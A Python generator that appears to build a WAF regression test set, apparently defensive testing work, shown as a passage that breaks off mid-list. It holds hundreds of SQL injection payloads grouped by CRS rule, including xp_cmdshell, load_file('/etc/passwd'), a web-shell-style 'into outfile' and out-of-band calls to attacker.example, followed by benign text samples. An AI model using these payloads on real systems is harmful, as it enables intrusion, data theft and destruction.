"""Blind regression set of the shortest SQL injection payloads: for each CRS 3.3.4 SQLi request-rule title at
paranoia levels 1-2 (and four titles later CRS releases added), the atomic fragments that still carry the attack
the title names, one per test as a regression suite lists them, then the same fragments with one obfuscation each.

Angle: fragments, not full exploits. A lone tautology, a lone UNION SELECT, a lone stacked statement, a lone
function call, a quote and a comment, a lone database name, a lone magic number. Each title has 8 to 12
payloads: about half plain and atomic, the rest with exactly one obfuscation (mixed case, an inline or MySQL
version comment in place of a space, a tab or other whitespace substitute, brackets in place of spaces, quoting or
backticks, or a URL encoding the server decodes, i.e. the payload sent already percent-encoded once more).

Family: sqli only. Sub-families, one per detection title (the CRS rule id leads each name):
942100 libinjection, 942140 common DB names, 942160 sleep/benchmark, 942170 benchmark/sleep with conditionals,
942190 MSSQL code execution and information gathering, 942220 integer overflow magic numbers, 942230 conditional
injection, 942240 MySQL charset switch and MSSQL DoS, 942250 MATCH AGAINST / MERGE / EXECUTE IMMEDIATE, 942270
basic UNION SELECT FROM, 942280 pg_sleep / WAITFOR DELAY / SHUTDOWN, 942290 MongoDB operators, 942320 stored
procedure and function injection, 942350 UDF and data/structure manipulation, 942360 concatenated injection and
SQL file access, 942500 MySQL inline comments, 942110 injection testing (lone quotes), 942120 SQL operators,
942130 tautologies, 942150 SQL function names, 942180 / 942260 / 942340 authentication bypass 1-3, 942200
comment- and space-obfuscation and backtick termination, 942210 / 942310 chained injection, 942300 comments,
conditions and ch(a)r, 942330 / 942370 classic probings, 942361 ALTER or UNION, 942380-942480 the generic
"SQL Injection Attack" titles (HAVING / ORDER BY / EXISTS, OR/AND/XOR truth tests, AND comparisons, function
calls, MSSQL and Oracle procedures and packages, whole statements), 942430 special-character anomaly, 942440
comment sequences, 942450 hex encoding, 942510 ticks and backticks, and from 4.x: JSON-based SQLi, MySQL
scientific notation, authentication bypass split across two fields, authentication bypass 4/4.

Placements: every payload is sent twice. Once into one of our real routes, rotating over the query of /api/users,
the form of /admin/users/search (with csrf_token), the JSON of /api/users, a cookie, the User-Agent, the Referer,
a custom header, a parameter name, an XML body, a multipart field, a multipart filename and the URL path. Once the
way a WAF's regression suite sends it ("rs-" placements): to a path that is not our route (/, /index.php, /get,
/post, /search, /api/v1/items) under an arbitrary parameter name (foo, var, x, test, id, arg1), as a query
string, a form body, a JSON body, an XML body, or in the User-Agent, the Referer, a custom header or a cookie.
MongoDB operator names (user[$ne]) go where they work, as parameter names; a split authentication bypass goes as
two fields of one request.

Benign: the same words typed innocently by real users: Slack messages and profile bios of developers and
analysts talking about SQL, sleep, benchmarks, unions, Mongo, hex colours and backticks; documentation links;
prose in the admin search box; searches; names with apostrophes and addresses with hashes.

Authorship and independence: written from general knowledge and the rule titles alone (no WAF rule, engine,
ruleset regression test or public payload list was read), measured once through the real stack on unchanged code,
payloads not changed after the measurement. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "fiftyseventh"

Payload = str | tuple[str, str]

# (sub-family, payloads): plain atomic fragments first, then one obfuscation each.
TITLES: list[tuple[str, list[Payload]]] = [
    ("942100-libinjection", [
        "1' OR '1'='1",
        "' OR 1=1--",
        "1 UNION SELECT 1,2",
        "'; DROP TABLE users--",
        "admin'--",
        "1 AND 1=2",
        "\") OR (\"a\"=\"a",
        "1' AND SLEEP(5)#",
        "1'/**/oR/**/'1'='1",
        "' oR 1=1 -- -",
        "%27%20OR%201%3D1--",
        "1'\tOR\t1=1#",
    ]),
    ("942140-db-names", [
        "information_schema.tables",
        "from mysql.user",
        "pg_catalog.pg_tables",
        "master..sysdatabases",
        "msdb.dbo.backupset",
        "sqlite_master",
        "sysibm.systables",
        "pg_shadow",
        "INFORMATION_SCHEMA.COLUMNS",
        "`information_schema`.`tables`",
        "information_schema%2Eschemata",
        "from\tmysql.db",
    ]),
    ("942160-sleep-benchmark", [
        "sleep(5)",
        "1 and sleep(3)",
        "' or sleep(5)#",
        "benchmark(1000000,md5(1))",
        "BENCHMARK(5000000,SHA1(1))",
        "(select sleep(10))",
        "SlEeP(5)",
        "sleep/**/(5)",
        "sleep%285%29",
        "bEnChMaRk(9999999,md5(0x41))",
        "sleep\t(7)",
    ]),
    ("942170-benchmark-sleep-conditional", [
        "select if(1=1,sleep(5),0)",
        "select benchmark(10000000,md5('a'))",
        "; select sleep(5)",
        "1 and if(1,sleep(5),0)",
        "' and (select sleep(5))--",
        "select case when 1=1 then sleep(5) end",
        "select if(ascii(substr(user(),1,1))>64,sleep(3),1)",
        "SeLeCt SlEeP(5)",
        "select/**/sleep(5)",
        "SELECT\tBENCHMARK(1e7,MD5(1))",
        "select%20if(1,sleep(5),0)",
    ]),
    ("942190-mssql-exec-info", [
        "exec xp_cmdshell 'dir'",
        ";exec master..xp_cmdshell 'whoami'--",
        "exec sp_configure 'show advanced options',1",
        "select @@version",
        "union select @@servername",
        "' union select user_name()--",
        "exec xp_regread",
        "eXeC xP_cMdShElL 'dir'",
        "exec/**/xp_cmdshell 'ver'",
        "exec%20xp_cmdshell%20'ipconfig'",
        "exec\tmaster.dbo.xp_cmdshell 'hostname'",
    ]),
    ("942220-integer-overflow", [
        "4294967295",
        "4294967296",
        "2147483648",
        "-2147483649",
        "18446744073709551615",
        "9223372036854775808",
        "2.2250738585072011e-308",
        "3.0.00738585072007e-308",
        "+4294967296",
        "2.2250738585072011E-308",
        "-9223372036854775809",
        "0x100000000",
    ]),
    ("942230-conditional", [
        "1 and if(1=1,1,0)",
        "case when 1=1 then 1 else 0 end",
        "' and (case when 1=1 then 1 else 0 end)=1--",
        "iif(1=1,1,0)",
        "if(substr(version(),1,1)=5,1,0)",
        "decode(substr(user,1,1),'S',1,0)",
        "1 and elt(1=1,1)",
        "CaSe WhEn 1=1 tHeN 1 EnD",
        "case/**/when/**/1=1/**/then/**/1/**/end",
        "if%281%3D1%2C1%2C0%29",
        "1 AND IF\t(1=1,1,0)",
    ]),
    ("942240-charset-switch-mssql-dos", [
        "alter table t character set latin1",
        "alter database db character set gbk",
        "set names gbk",
        "'; waitfor time '12:00'--",
        "\";waitfor time \"23:59\"",
        "\"; a: goto a",
        "convert(x using latin1)",
        "AlTeR TaBlE t ChArAcTeR SeT utf8",
        "alter/**/table t character/**/set big5",
        "%27%3Bwaitfor%20time%20%2700:00%27--",
        "\";\twaitfor\ttime \"01:00\"",
    ]),
    ("942250-match-merge-execute", [
        "match(name) against('x')",
        "match (a,b) against ('+admin' in boolean mode)",
        "merge into users using dual on (1=1)",
        "execute immediate 'select 1 from dual'",
        "execute immediate 'drop table x'",
        "' and match(pass) against('a*')#",
        "merge users using t on 1=1",
        "MaTcH(x) AgAiNsT('y')",
        "match/**/(x)/**/against('y')",
        "ExEcUtE\tImMeDiAtE 'x'",
        "execute%20immediate%20%27begin null; end;%27",
    ]),
    ("942270-basic-union-from", [
        "union select a from b",
        "' union select password from users--",
        "1 union all select username from admin",
        "union select null from dual",
        "union select * from users",
        "-1 union select name from sysobjects",
        "uNiOn SeLeCt x FrOm y",
        "union/**/select/**/x/**/from/**/y",
        "union%0aselect%0ax%0afrom%0ay",
        "union\tselect\tpass\tfrom\tusers",
        "union(select(x)from(y))",
    ]),
    ("942280-pgsleep-waitfor-shutdown", [
        "pg_sleep(5)",
        "select pg_sleep(10)",
        "waitfor delay '0:0:5'",
        ";shutdown--",
        "; shutdown with nowait",
        "'; waitfor delay '00:00:10'--",
        "1;select pg_sleep(5)--",
        "Pg_SlEeP(5)",
        "WaItFoR DeLaY '0:0:5'",
        "waitfor/**/delay '0:0:5'",
        "%3BSHUTDOWN--",
        "pg_sleep\t(5)",
    ]),
    ("942290-mongodb", [
        "user[$ne]",
        "pass[$gt]",
        "name[$regex]",
        "{\"$ne\":1}",
        "{\"$gt\":\"\"}",
        "$where: \"1==1\"",
        "{\"$where\":\"sleep(1000)\"}",
        "db.users.find()",
        "{\"$or\":[{},{\"a\":1}]}",
        "user[%24ne]",
        "{ \"$nin\" : [ ] }",
        "db.getCollection('users').find({})",
    ]),
    ("942320-stored-procedure", [
        "procedure analyse()",
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "; declare @x int",
        "declare @s varchar(8000)",
        "exec(@s)",
        "create function f() returns int",
        "; declare c cursor for select 1",
        "create or replace function sys_eval(text) returns text as '/tmp/x.so' language c",
        "PrOcEdUrE aNaLySe()",
        "procedure/**/analyse()",
        "DECLARE\t@q NVARCHAR(99)",
        "exec%20%28%40q%29",
    ]),
    ("942350-udf-structure", [
        "create function sys_exec returns int soname 'lib.so'",
        "'; insert into admins values('x')--",
        "1; update users set admin=1",
        ";drop table users",
        "; delete from sessions",
        ";truncate table audit",
        "; alter table users add c int",
        ";create table t(a int)",
        ";dRoP tAbLe users",
        ";/**/insert/**/into t values(1)",
        "%3B%20drop%20table%20x",
        "CrEaTe FuNcTiOn f ReTuRnS STRING SoNaMe 'x.dll'",
    ]),
    ("942360-concat-sqllfi", [
        "load_file('/etc/passwd')",
        "select load_file('/etc/hosts')",
        "into outfile '/var/www/s.php'",
        "into dumpfile '/tmp/x'",
        "1' union all select 1",
        "' select * from users",
        "0 alter table users",
        "\"; delete from x",
        "LoAd_FiLe(0x2f6574632f706173737764)",
        "1'/**/union/**/select/**/1",
        "into%20dumpfile%20%27/tmp/x%27",
        "'\tSELECT\tuser",
    ]),
    ("942500-mysql-inline-comment", [
        "/*!select*/",
        "/*!50000union*/",
        "1/*!and*/1=1",
        "/*!00000concat*/(1)",
        "'/*!or*/'1'='1",
        "/*!32302 1/0, */",
        "/*!UnIoN*/",
        "/*!50000%55nion*/",
        "/*!\tselect*/",
        "%2F%2A%21select%2A%2F",
    ]),
    ("942110-injection-testing", [
        "'",
        "1'",
        "\"",
        "')",
        "';",
        "1\"",
        "`",
        "'--",
        "%27",
        "%22%29",
        "'   ",
        "'\t",
    ]),
    ("942120-sql-operator", [
        "1 rlike 1",
        "1 regexp '^a'",
        "a' like 'a%",
        "1 xor 1",
        "1 <=> 1",
        "1 not between 0 and 2",
        "1 sounds like 1",
        "1 div 1",
        "1 RlIkE 1",
        "1/**/regexp/**/1",
        "1%20xor%201",
        "1\tNOT\tBETWEEN\t0\tAND\t2",
    ]),
    ("942130-tautology", [
        "' or 1=1",
        "or 'a'='a'",
        "1 or 2=2",
        "x' or 'x'='x",
        "\" or \"1\"=\"1",
        "or a like a",
        "or 1<=>1",
        "and 3 regexp 3",
        "'/**/OR/**/1=1",
        "' Or 'A'='A",
        "'%20or%201%3D1",
        "'\tor\t(1)=(1)",
    ]),
    ("942150-sql-functions", [
        "version()",
        "database()",
        "user()",
        "ascii(substr(x,1,1))",
        "group_concat(name)",
        "extractvalue(1,concat(0x7e,version()))",
        "updatexml(1,concat(0x7e,user()),1)",
        "substring(@@version,1,1)",
        "VeRsIoN()",
        "database/**/()",
        "user%28%29",
        "ascii\t(substr(x,1,1))",
    ]),
    ("942180-auth-bypass-1", [
        "admin'--",
        "admin'#",
        "' or ''='",
        "\" or \"\"=\"",
        "'or'1'='1",
        "') or ('a'='a",
        "' or true--",
        "'='",
        "AdMiN'--",
        "admin'/*",
        "admin%27--",
        "'\tor\t''='",
    ]),
    ("942200-comment-space-backtick", [
        "select/**/1",
        "'/**/or/**/'a",
        "1,/**/2",
        "a`/**/or 1",
        "`) or 1#",
        "col` -- x",
        "union/**/select",
        "1/*x*/and/*x*/2",
        "SeLeCt/**/1",
        "select/*comment*/1",
        "select%2F%2A%2A%2F1",
        "`\tor\t1#",
    ]),
    ("942210-chained-1", [
        "' and id in (select 1)",
        "1 and x=1 having 1=1",
        "1' or '1'='1' or '",
        ";select 1",
        "1 && 1=1",
        "1 || 1=1",
        "' and ascii(x)>1",
        "1) and (1=1",
        "' AnD iD iN (SeLeCt 1)",
        "1/**/&&/**/1=1",
        "%3Bselect%201",
        "1\t||\t1=1",
    ]),
    ("942260-auth-bypass-2", [
        "'or 1#",
        "'||1#",
        "' or 1 --",
        "'-''-'",
        "' and 1 #",
        "\"||1||\"",
        "'or'x",
        "'and'x",
        "' Or 1 --",
        "'/**/or/**/1#",
        "%27or%201%23",
        "'\tor\t1#",
    ]),
    ("942300-comment-condition-char", [
        "char(97,100)",
        "chr(65)||chr(66)",
        ") when 1=1 then",
        "1)#",
        "'-- ",
        "concat(char(0x41))",
        "case when (1) then 1 end",
        "ChAr(65)",
        "char (65)",
        "chr%2865%29",
        "cHr(0x41)",
    ]),
    ("942310-chained-2", [
        "(select user)",
        "order by if(1=1,1,2)",
        "1) from dual",
        "' from users",
        "(select top 1 name from sysobjects)",
        "order by ifnull(1,2)",
        "(select(1)from(x))",
        "oRdEr By If(1=1,1,2)",
        "(select/**/user)",
        "order%20by%20if(1,1,2)",
        "(\tselect\tuser)",
    ]),
    ("942330-classic-probing-1", [
        "' or '",
        "\" or \"",
        "'-'",
        "' and '",
        "1'or'1",
        "' xor '",
        "' div '",
        "'*'",
        "' Or '",
        "'/**/or/**/'",
        "%27%20or%20%27",
        "'\tand\t'",
    ]),
    ("942340-auth-bypass-3", [
        "' in ('admin')",
        "\" in (\"x\")",
        "' is null--",
        "' not like 'x",
        "' between 1 and 2",
        "' having 1=1--",
        "' not in (1)",
        "' sounds like '",
        "' In ('AdMiN')",
        "'/**/in/**/('x')",
        "%27%20is%20null--",
        "'\tnot\tlike\t'x",
    ]),
    ("942361-alter-union", [
        "1 union select 1",
        "' union all select",
        "1 alter table x",
        "'alter user root",
        "-1 union distinct select 1",
        "1)union(select",
        "' alter database x",
        "1 UnIoN SeLeCt 1",
        "1/**/union/**/select/**/1",
        "1%20union%20select%201",
        "'\talter\ttable\tx",
    ]),
    ("942370-classic-probing-2", [
        "1' && 1",
        "\" || 1",
        "' || '",
        "'=' 'or",
        "' ; --",
        "' <> '",
        "' * 1",
        "\" && \"",
        "1'/**/&&/**/1",
        "%27%20%7C%7C%20%27",
        "'\t<>\t'",
    ]),
    ("942380-having-exists-order", [
        "having 1=1",
        "' group by 1 having 1=1--",
        "order by 10--",
        "and exists (select 1)",
        "' limit 1,1--",
        "1 having count(*)>0",
        "1' order by 3#",
        "HaViNg 1=1",
        "order/**/by/**/10",
        "%20having%201%3D1",
        "and\texists\t(select 1)",
    ]),
    ("942390-or-and-xor", [
        "or 1",
        "' or true",
        "or 2>1",
        "and 1 between 0 and 2",
        "or 1 is not null",
        "xor 1",
        "' and false",
        "oR tRuE",
        "'/**/or/**/2>1",
        "%20or%201",
        "or\t1\tis\tnot\tnull",
    ]),
    ("942400-and-comparison", [
        "and 1=1",
        "and 2>1",
        "and 'a'<'b'",
        "and 5<6",
        "' and '1'='1",
        "and 1<>2",
        "and 1>=1",
        "AnD 1=1",
        "and/**/2>1",
        "%20and%201%3D1",
        "and\t5<6",
    ]),
    ("942410-function-calls", [
        "cast(1 as char)",
        "convert(int,@@version)",
        "floor(rand(0)*2)",
        "md5(1)",
        "length(user())",
        "coalesce(null,1)",
        "substr(x,1,1)",
        "nullif(1,1)",
        "hex(user())",
        "CaSt(1 AS cHaR)",
        "floor/**/(rand(0)*2)",
        "convert%28int%2C%40%40version%29",
    ]),
    ("942470-mssql-oracle-procs", [
        "xp_dirtree '\\\\attacker.example\\a'",
        "sp_executesql",
        "openrowset('SQLOLEDB','x';'sa';'','select 1')",
        "opendatasource('SQLOLEDB','Data Source=x')",
        "sp_oacreate 'wscript.shell',@o out",
        "utl_http.request('http://attacker.example/')",
        "dbms_pipe.receive_message('a',5)",
        "utl_inaddr.get_host_address('x')",
        "xp_regwrite",
        "Xp_DiRtReE '\\\\a\\b'",
        "exec\tsp_executesql",
        "utl_http%2Erequest%28%27http://x/%27%29",
    ]),
    ("942480-sql-statements", [
        "select * from users",
        "delete from users",
        "insert into users values(1)",
        "update users set admin=1",
        "drop table users",
        "truncate table logs",
        "select count(*) from admin",
        "create table t(a int)",
        "SeLeCt * FrOm users",
        "delete/**/from/**/users",
        "drop%20table%20users",
        "update\tusers\tset\tadmin=1",
    ]),
    ("942430-special-char-anomaly", [
        "))))))))))))",
        "'''''''''''''",
        "((((((((((((1",
        ";;;;;;;;;;;;;",
        "'-'-'-'-'-'-'-'",
        "'\"'\"'\"'\"'\"'\"'",
        "@@@@@@@@@@@@@",
        "1')))))) or ((((('1",
        "%27%27%27%27%27%27%27%27%27%27%27%27%27",
        "' ' ' ' ' ' ' ' ' ' ' ' '",
        "`````````````",
        "'\t'\t'\t'\t'\t'\t'\t'\t'\t'\t'\t'\t'",
    ]),
    ("942440-comment-sequence", [
        "1--",
        "' --",
        "1#",
        "1/*",
        "*/",
        "'-- -",
        "1;--",
        "--+",
        "%2D%2D",
        "'%23",
        "/**/",
        "'\t--",
    ]),
    ("942450-hex-encoding", [
        "0x61646d696e",
        "0x2f6574632f706173737764",
        "x'61646d696e'",
        "where name=0x61646d696e",
        "unhex(0x41)",
        "0x3c3f70687020",
        "char(0x41)",
        "0X61646D696E",
        "X'41'",
        "%30x414243",
        "\t0x7573657273",
    ]),
    ("942510-ticks-backticks", [
        "`or`",
        "`and`1",
        "`union`select",
        "\u00b4or\u00b41\u00b4=\u00b41",
        "`admin`--",
        "`)or`1`=`1",
        "`id`=`id`",
        "\u00b4 or \u00b4",
        "`Or`",
        "`/**/or/**/`1",
        "%60or%60",
        "`\tunion\tselect",
    ]),
    ("4x-json-sqli", [
        "'{\"a\":1}'::jsonb @> '{}'",
        "' or '{\"a\":\"b\"}'<@'{\"a\":\"b\"}'",
        "json_extract('{\"x\":1}','$.x')=1",
        "1 or '{}'::json is not null",
        "data->>'$.role'='admin'",
        "json_keys('{}')",
        "' and json_valid('{}')#",
        "'{\"b\":2}' ? 'b'",
        "JsOn_ExTrAcT('{\"x\":1}','$.x')",
        "'{}'::jsonb/**/@>/**/'{}'",
        "%27%7B%7D%27%3A%3Ajson%20is%20not%20null",
        "json_extract\t('{\"x\":1}','$.x')",
    ]),
    ("4x-scientific-notation", [
        "1.e(ascii(1))",
        "' or 1.e(1) or '",
        "1e0union select 1",
        "1.e1union select 1",
        "1.0e0union",
        "1.e(user())",
        "0.1e1from users",
        "1.e,1",
        "1.E(AsCiI(1))",
        "1.e/**/(1)",
        "1.e%28version%28%29%29",
        "'\tor\t1.e(1)",
    ]),
    ("4x-auth-bypass-split", [
        ("admin'/*", "*/ or '1'='1"),
        ("admin'/*", "*/or 1=1#"),
        ("'/*", "*/ or ''='"),
        ("admin\"/*", "*/ or \"\"=\""),
        ("x'/*", "*/union select 1,2#"),
        ("admin'/*", "*/--"),
        ("AdMiN'/*", "*/ Or '1'='1"),
        ("admin'/*", "*/\tor\t1=1#"),
        ("admin%27%2F%2A", "%2A%2F%20or%201%3D1%23"),
        ("admin'/*x", "y*/ or 1=1#"),
    ]),
    ("4x-auth-bypass-4", [
        "admin' or 1 limit 1#",
        "' or 1=1 limit 1 -- -",
        "'or''='",
        "') or true--",
        "\" or true#",
        "'||'1",
        "admin')#",
        "' or 'a'='a' --",
        "AdMiN' Or 1 LiMiT 1#",
        "'/**/or/**/true--",
        "admin%27%29%23",
        "'\tor\t1=1\tlimit\t1#",
    ]),
]

REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Context",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Test", "rs-cookie"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
REAL_PARAMS = ["q", "name", "filter", "sort", "email", "team"]
BOUNDARY = "----fiftyseventhFormBoundary7MA4YWxk"


def _header_safe(value: str) -> str:
    """A header value as a client sends it: no CR, LF or NUL; non-ASCII percent-encoded."""
    out = value.replace("\r", " ").replace("\n", " ").replace("\x00", "")
    return "".join(c if ord(c) < 128 else urllib.parse.quote(c) for c in out)


def _with_headers(rec: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _xml(uri: str, root: str, field: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?><{root}><{field}>{escape(value)}</{field}></{root}>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}


def _multipart(uri: str, fields: list[tuple[str, str]], filename: str | None) -> dict[str, Any]:
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields]
    if filename is not None:
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="avatar"; filename="{filename}"\r\n'
                     "Content-Type: image/png\r\n\r\n\x89PNG-fake-bytes\r\n")
    body = "".join(parts) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _json_value(value: str) -> Any:
    """A MongoDB operator document goes into JSON as the object it is; anything else as a string."""
    if value.startswith("{"):
        try:
            return json.loads(value)
        except ValueError:
            return value
    return value


def _real(place: str, name: str, value: str) -> tuple[dict[str, Any], str]:
    """One of our routes with `value` at `place`; returns the request and the payload as sent."""
    if place == "query":
        return _get(_query("/api/users", [(name, value), ("page", "1")])), value
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, value)]), value
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: _json_value(value)}), value
    base = _get("/api/users?page=1")
    if place == "cookie":
        return _with_headers(base, {"Cookie": "session=abc123; prefs=" + urllib.parse.quote(value, safe="")}), value
    if place == "header:User-Agent":
        v = _header_safe(value)
        return _with_headers(base, {"User-Agent": v}), v
    if place == "header:Referer":
        v = _header_safe(value)
        return _with_headers(base, {"Referer": "https://app.example.org/search?q=" + v}), v
    if place == "header:X-Client-Context":
        v = _header_safe(value)
        return _with_headers(base, {"X-Client-Context": v}), v
    if place == "param-name":
        return _get("/api/users?" + urllib.parse.quote(value, safe="") + "=1&page=1"), value
    if place == "xml":
        return _xml("/api/users", "user", name, value), value
    if place == "multipart-field":
        return _multipart("/admin/users/search", [("csrf_token", "t0k3n"), (name, value)], None), value
    if place == "multipart-filename":
        v = value.replace('"', "%22").replace("\r", "").replace("\n", "")
        return _multipart("/api/users/42/avatar", [("caption", "me")], v), v
    return _get("/api/users/" + urllib.parse.quote(value, safe="")), value


def _rs(place: str, path: str, name: str, value: str) -> tuple[dict[str, Any], str]:
    """A regression suite's request: `value` under an arbitrary name on a path that is not our route."""
    if place == "rs-query":
        return _get(_query(path, [(name, value)])), value
    if place == "rs-form":
        return _form(path, [(name, value)]), value
    if place == "rs-json":
        return _json(path, {name: _json_value(value)}), value
    if place == "rs-xml":
        return _xml(path, "root", name, value), value
    base = _get(path)
    if place == "rs-cookie":
        return _with_headers(base, {"Cookie": f"{name}=" + urllib.parse.quote(value, safe="")}), value
    v = _header_safe(value)
    header = place.split(":", 1)[1]
    return _with_headers(base, {header: v}), v


def _mongo_name(value: str) -> bool:
    return "[$" in value or "[%24" in value


def _requests(k: int, payload: Payload) -> Iterator[tuple[dict[str, Any], str, str]]:
    """The k-th payload's two requests: (request, placement, payload as sent)."""
    path, rs_name = RS_PATHS[k % len(RS_PATHS)], RS_PARAMS[(k // 2) % len(RS_PARAMS)]
    name = REAL_PARAMS[k % len(REAL_PARAMS)]
    if isinstance(payload, tuple):
        user, pwd = payload
        shown = f"{user} <split> {pwd}"
        place = ["query", "form", "json"][k % 3]
        fields = [("username", user), ("pass", pwd)]
        if place == "query":
            yield _get(_query("/api/users", fields)), place, shown
        elif place == "form":
            yield _form("/admin/users/search", [("csrf_token", "t0k3n"), *fields]), place, shown
        else:
            yield _json("/api/users", dict(fields)), place, shown
        rs_place = ["rs-form", "rs-json", "rs-query"][k % 3]
        rs_fields = [(rs_name, user), ("var2", pwd)]
        if rs_place == "rs-query":
            yield _get(_query(path, rs_fields)), rs_place, shown
        elif rs_place == "rs-form":
            yield _form(path, rs_fields), rs_place, shown
        else:
            yield _json(path, dict(rs_fields)), rs_place, shown
        return
    if _mongo_name(payload):
        if k % 2:
            yield _form("/admin/users/search", [("csrf_token", "t0k3n"), (payload, "x")]), "param-name", payload
        else:
            yield _get(f"/api/users?{payload}=x&page=1"), "param-name", payload
        yield _get(f"{path}?{payload}=1"), "rs-param-name", payload
        return
    place = REAL[k % len(REAL)]
    rec, sent = _real(place, name, payload)
    yield rec, place, sent
    rs_place = RS[(k * 3 + 1) % len(RS)]
    rec, sent = _rs(rs_place, path, rs_name, payload)
    yield rec, rs_place, sent


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    k = 0
    for sub, payloads in TITLES:
        for payload in payloads:
            for rec, place, sent in _requests(k, payload):
                n += 1
                yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub,
                       "placement": place, "payload": sent}
            k += 1


# Benign: the same words, typed innocently.
SLACK_TEXTS = [
    "can someone review my PR? it adds a union of the two customer lists",
    "select all the rows in the sheet and sort by date please",
    "I'll sleep on it and decide tomorrow",
    "the benchmark numbers are in: 12% faster on the new box",
    "drop me a line when the deploy is done",
    "the query uses an inner join on orders and customers, nothing fancy",
    "we should add an index on users.email, the lookup is slow",
    "O'Brien's team owns the billing service now",
    "don't forget: standup moved to 9:30",
    "Ran `SELECT count(*) FROM events` on the replica: 4.2M rows",
    "the migration adds a column `last_seen_at` to the users table",
    "use `ORDER BY created_at DESC LIMIT 20` for the feed",
    "is the information schema view available on the read replica?",
    "pg_stat_activity shows a few idle transactions, looking into it",
    "our Mongo cluster upgraded to 7.0 overnight",
    "the $lookup stage in the aggregation is what makes it slow",
    "updated the README with the new setup steps",
    "please delete the old branch once it's merged",
    "I'm out Friday, Jenny covers on-call",
    "the hex colour for the brand is #1a73e8",
    "the build is failing on the lint step, fixing",
    "the or-tools solver found a schedule in 3 seconds",
    "Waiting for the delay on the 8:15 train, running late",
    "the shutdown of the old datacenter is scheduled for March",
    "let's merge the two docs into one before the review",
    "execute the plan as discussed, thanks all",
    "match day tomorrow! office team vs. support team",
    "the case study for Acme is ready for review",
    "if the tests pass, ship it; else ping me",
    "the char limit for titles is 80",
    "set names on the badges before the event please",
    "I'll convert the doc to PDF and share it",
    "the procedure for expense reports changed, see HR wiki",
    "declare your conflicts of interest in the form by Monday",
    "we'll alter the schedule for the holidays",
    "the order by date filter works in the new admin",
    "having fun at the offsite, pictures soon",
    "sum of the invoices is 12,400 EUR",
    "count me in for lunch",
    "version 2.4.1 is out with the hotfix",
    "the user guide needs screenshots of the new dashboard",
    "database backup finished at 03:12 UTC",
    "the #general channel is getting noisy, moving this to #eng-db",
    "anyone tried the new mysql 8.4 LTS?",
    "SQLite is perfect for the desktop app",
    "the sqlite_master table lists the schema, handy for debugging",
    "benchmark results: postgres 16 vs 15, pretty close",
    "the report joins three tables and groups by region",
    "group by customer then having total > 1000 gives the VIP list",
    "exists checks are faster than counting here",
    "the cast of the play is amazing, go see it",
    "floor plan for the new office is attached",
    "length of the video is 3 minutes",
    "I'll hex-edit the firmware image later, kidding",
    "0x prefix means hex in most languages",
    "the value 0xFF is 255",
    "the error is 0x80070005, access denied on Windows",
    "the tick marks on the chart are too dense",
    "wrap code in backticks like `this` in Slack",
    "in markdown use ``` for code blocks",
    "the json field `metadata` holds the extra attributes",
    "we parse the JSON with orjson now",
    "the API returns {\"ok\": true} on success",
    "I'm at 50% battery, charging before the call",
    "the formula is 1e-3 times the rate",
    "scientific notation like 6.02e23 breaks the CSV import",
    "the split view in the editor is great",
    "admin panel login page has a new logo",
    "the or/and logic in the filter UI is confusing users",
    "true or false: the cache is warm after deploy? true",
    "1 + 1 = 2, even for the new intern",
    "the limit is 100 requests per minute per token",
    "we're at 4294967295 bytes, the 32-bit limit, on that log file",
    "int overflow bug fixed in the counter, now 64-bit",
    "the sleep() in the retry loop is 200ms",
    "the sleep tracker says I got 6 hours",
    "the match against the regex fails on emoji",
    "the charset is utf8mb4, not utf8",
    "the MERGE statement in SQL Server is tricky, we use upsert",
    "the execute button in the admin runs the job",
    "the waitfor in the test harness was removed",
    "the comment syntax in SQL is -- or /* */",
    "hash tags like #release-notes help search",
    "quote of the day: 'make it work, make it right, make it fast'",
    "it's Tom's birthday! cake in the kitchen",
    "we're hiring a DBA, please share the posting",
    "the union rep meeting is on Thursday",
    "European Union rules on data residency apply here",
    "the select committee report is due next week",
    "the drop-down menu is missing the 'Other' option",
    "insert the signature block at the bottom of the letter",
    "update: the vendor fixed the bug",
    "the delete key on my keyboard is stuck",
    "create a ticket for it and tag me",
    "the table in the meeting room is booked",
    "the trigger for the alert is CPU over 90%",
    "procedures for onboarding are in the handbook",
    "the function key row on the new laptops is weird",
    "the users' feedback is mostly positive",
    "the password manager rollout is next week",
    "the $ne operator in Mongo means not equal, careful with nulls",
    "use $regex sparingly, it can't use the index",
    "db.collection.find() returns a cursor, remember to iterate",
    "let's chr() the CSV separator? nah, just use a comma",
    "The ASCII table hangs on my wall",
    "substring search is case-sensitive in that API",
    "concat the first and last name for the display label",
    "the version() call tells you the server build",
    "load the file from the shared drive, it's big",
    "dump file from the crash is 2 GB",
    "outfile name should include the date",
    "the master branch was renamed to main",
    "the tempdb on the reporting server fills up on Mondays",
    "the msdb job history shows the backup ran",
    "sys tables are off limits for the app user",
    "The and/or toggle in search needs a tooltip",
    "I'd rather sleep than watch that benchmark video",
    "ping @ana about the 'alter ego' campaign copy",
